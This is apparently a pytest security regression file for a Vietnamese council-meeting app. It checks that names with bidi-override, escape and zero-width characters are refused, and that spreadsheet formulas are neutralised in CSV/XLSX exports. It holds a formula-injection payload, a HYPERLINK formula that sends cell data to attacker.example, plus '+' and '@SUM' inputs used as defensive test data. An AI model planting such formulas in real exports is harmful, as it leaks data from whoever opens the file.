"""Attack: names that lie about themselves or run as formulas (issue #14, finding 9).

Before: names with control characters or bidi overrides (shown reversed on every screen and in
the minutes) were accepted, and ``=HYPERLINK(…)`` flowed into the CSV/XLSX exports as a live
formula."""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from meetingapp.client import HostError
from meetingapp.domain import AttendanceMethod, BallotForm, BodyKind
from meetingapp.errors import RosterImportError
from meetingapp.roster import import_roster
from tests.helpers import make_meeting
from tests.hostproc import HostProcess

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


async def refused(coro) -> HostError:  # type: ignore[no-untyped-def]
    with pytest.raises(HostError) as info:
        await coro
    assert (info.value.status, info.value.code) == (422, "text.forbidden_chars"), info.value
    return info.value


def test_control_and_bidi_characters_are_refused_by_the_host(host: HostProcess) -> None:
    async def scenario() -> None:
        c = host.client(console=True)
        body = await c.create_body(BodyKind.HDND, "Hội đồng nhân dân xã An Toàn", 10)
        await refused(c.add_delegates(body, [{"full_name": f"Nguyễn Văn {RLO}nA"}]))
        await refused(c.add_delegates(body, [{"full_name": "Trần\x1b[2J Bình"}]))
        await refused(c.add_delegates(body, [{"full_name": "Lê Chi", "title": f"Đại{RLO} biểu"}]))
        await refused(c.create_body(BodyKind.HDND, "Xã\u2066 Ẩn", 10))
        ids = await c.add_delegates(
            body, [{"full_name": "Phạm Thị Hương"}, {"full_name": FORMULA, "unit": "+Tổ 1"}]
        )
        err = await refused(c.create_session(body_id=body, number=1, title="Kỳ họp\u200b thứ Nhất"))
        assert "ký tự điều khiển" in err.detail
        sid = await c.create_session(
            body_id=body, number=1, title="Kỳ họp thứ Nhất", chair_panel=[ids[0]]
        )
        item = await c.add_item(sid, "Nghị quyết")
        await c.open_session(sid)
        await c.start_roll_call(sid)
        for did in ids:
            await c.check_in(sid, did, method=AttendanceMethod.MANUAL, reason="@SUM(1+1)")
        await c.close_roll_call(sid)
        await c.start_item(sid, item)
        await refused(c.open_motion(sid, f"Biểu quyết {RLO}", BallotForm.ELECTRONIC))
        await c.close_session(sid)
        _, package = await c.record_package(sid)
        await c.close()
        return package

    package = asyncio.run(scenario())
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        names = z.namelist()
        csv_name = next(n for n in names if n.endswith("diem-danh.csv"))
        cells = [
            cell
            for row in csv.reader(io.StringIO(z.read(csv_name).decode("utf-8-sig")))
            for cell in row
        ]
        xlsx_name = next(n for n in names if n.endswith(".xlsx"))
        wb = load_workbook(io.BytesIO(z.read(xlsx_name)))
    assert f"'{FORMULA}" in cells  # shown as text, never run
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    values = [v for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row]
    texts = [v for v in values if isinstance(v, str)]
    assert f"'{FORMULA}" in texts
    assert not any(v.startswith(("=", "+", "@", "-")) for v in texts)
    assert not any(ws[c].data_type == "f" for ws in wb.worksheets for c in ("A1",))


def test_the_roster_import_names_each_bad_character(tmp_path: Path) -> None:
    mt = make_meeting(tmp_path)
    roster = tmp_path / "roster.csv"
    roster.write_text(
        f"họ và tên,chức vụ\nNguyễn Văn A,Đại biểu\nTrần{RLO} B,Tổ trưởng\nLê C,Ủy\x07 viên\n",
        encoding="utf-8",
    )
    with pytest.raises(RosterImportError) as info:
        import_roster(mt.machine, mt.body, roster)
    text = info.value.message("vi")
    assert "Dòng 3" in text and "U+202E" in text and "Dòng 4" in text and "U+0007" in text
    assert len(mt.machine.world.roster(mt.body)) == len(mt.delegates)  # nothing added
